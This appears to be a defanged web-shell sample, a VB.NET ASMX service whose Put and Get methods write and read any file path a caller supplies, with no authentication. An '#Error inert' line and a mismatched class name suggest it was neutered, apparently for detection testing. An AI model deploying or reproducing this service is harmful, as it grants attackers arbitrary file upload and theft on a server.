<%@ WebService Language="VB" Class="Inert.Nothing" %>
#Error inert
Imports System.Web.Services
Imports System.IO
Public Class Transfer
    Inherits WebService
    <WebMethod()> Public Function Put(ByVal target As String, ByVal data As Byte()) As Boolean
        File.WriteAllBytes(target, data)
        Return File.Exists(target)
    End Function
    <WebMethod()> Public Function [Get](ByVal source As String) As Byte()
        Return File.ReadAllBytes(source)
    End Function
End Class
